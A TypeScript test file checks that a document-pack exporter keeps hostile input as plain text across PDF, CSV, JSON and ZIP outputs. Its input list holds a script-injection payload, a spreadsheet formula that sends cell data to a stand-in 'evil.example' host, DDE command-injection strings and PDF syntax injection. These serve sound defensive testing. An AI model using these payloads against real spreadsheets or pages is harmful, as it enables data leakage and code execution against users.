// A hostile case exported to every format: markup, formula injection, PDF syntax, 10,000-character fields,
// mixed scripts, right-to-left text, emoji and control characters. Nothing may break, and text stays text.
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

import { unzipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';

import { PRODUCT_SIGNATURE } from '../../product';
import { buildBundle } from './bundle';
import { toCsv } from './csv';
import type { PackDocument } from '../document/document';
import { isSafeRelativePath } from './sha256sums';
import { renderPackPdf } from '../pdf/render-pdf';
import { sha256Hex } from './sha256';
import { extractPdfText } from '../testing/extract-pdf-text';
import { parseCsv } from '../testing/parse-csv';
import { readPackFonts } from '../testing/read-pack-fonts';

const LONG = 'Lorem ipsum dolor sit amet, ação niño Αθήνα Москва. '.repeat(200).slice(0, 10_000);
const HOSTILE_TEXTS = [
  '<script>alert(1)</script><img src=x onerror=alert(2)>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  ')\\( BT /F1 12 Tf (x) Tj ET endstream endobj %%EOF',
  'שלום עולם and مرحبا بالعالم mixed with English',
  'emoji 😀🦊👩‍👩‍👧🇧🇷 and 中文 and 한국어',
  'zero\u200Bwidth\u200Djoiner\u202Eoverride\u202C',
  'nul\u0000 bell\u0007 formfeed\u000c',
  'lone \uD800 surrogate \uDFFF halves',
  LONG,
];

const PAYMENT_HEADERS = ['date', 'amount', 'currency', 'recipient', 'note'];
const PAYMENT_ROWS = HOSTILE_TEXTS.map((text, index) => ['2026-02-01', -index - 0.5, 'EUR', text, text]);

function hostileDocument(): PackDocument {
  return {
    lang: 'es',
    title: 'Paquete de derivación',
    generatedAt: '2026-03-01T10:15:00.000Z',
    producer: PRODUCT_SIGNATURE,
    cover: HOSTILE_TEXTS.map((text, index) => ({ label: `Campo ${index}`, value: text })),
    footer: HOSTILE_TEXTS[0],
    pageLabel: 'Página {page} de {pages}',
    sections: [
      {
        id: 'summary',
        heading: HOSTILE_TEXTS[0] ?? '',
        blocks: HOSTILE_TEXTS.map((text) => ({ kind: 'paragraph', text })),
      },
      {
        id: 'payments',
        heading: 'Pagos',
        blocks: [
          {
            kind: 'table',
            columns: PAYMENT_HEADERS.map((header) => ({ header })),
            rows: PAYMENT_ROWS.map((row) => row.map(String)),
            totals: [['Total', '-60.5', 'EUR', '', '']],
          },
          {
            kind: 'hashes',
            items: HOSTILE_TEXTS.slice(0, 3).map((label) => ({ label, sha256: 'f'.repeat(64) })),
          },
          { kind: 'list', items: HOSTILE_TEXTS },
        ],
      },
    ],
  };
}

describe('a hostile case', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'pack-hostile-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('exports to PDF, CSV, JSON and ZIP without breaking any, text staying text', async () => {
    const fonts = await readPackFonts();
    const pdf = await renderPackPdf(hostileDocument(), fonts);
    const extracted = await extractPdfText(pdf);
    expect(extracted.pages.length).toBeGreaterThan(5);
    for (const text of HOSTILE_TEXTS.slice(0, 6)) expect(extracted.text).toContain(text);

    const csv = toCsv(PAYMENT_HEADERS, PAYMENT_ROWS, { bom: true });
    const parsed = parseCsv(csv.slice(1));
    expect(parsed).toHaveLength(PAYMENT_ROWS.length + 1);
    for (const row of parsed.slice(1)) {
      expect(row[1]).toMatch(/^-\d+\.5$/);
      for (const cell of [row[3] ?? '', row[4] ?? '']) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }

    const caseJson = JSON.stringify({ texts: HOSTILE_TEXTS }, null, 2);
    expect((JSON.parse(caseJson) as { texts: string[] }).texts).toEqual(HOSTILE_TEXTS);

    const evidenceBytes = new TextEncoder().encode(LONG);
    const evidence = HOSTILE_TEXTS.slice(0, 11).map((name, index) => ({
      id: `ev_${index}`,
      fileName: name,
      expectedSha256: '',
      bytes: evidenceBytes,
    }));
    const expected = await sha256Hex(evidenceBytes);
    for (const file of evidence) file.expectedSha256 = expected;
    const bundle = await buildBundle({ pdf, caseJson, paymentsCsv: csv, evidence, generatedAt: new Date() });
    for (const [name, bytes] of Object.entries(unzipSync(bundle.zip))) {
      expect(isSafeRelativePath(name), name).toBe(true);
      mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
      writeFileSync(path.join(dir, name), bytes);
    }
    const report = execFileSync('sha256sum', ['--check', '--strict', 'SHA256SUMS'], {
      cwd: dir,
      encoding: 'utf8',
    });
    expect(report.trim().split('\n')).toHaveLength(13);
    execFileSync('sha256sum', ['--check', '--strict', 'pack.pdf.sha256'], { cwd: dir });
  });
});
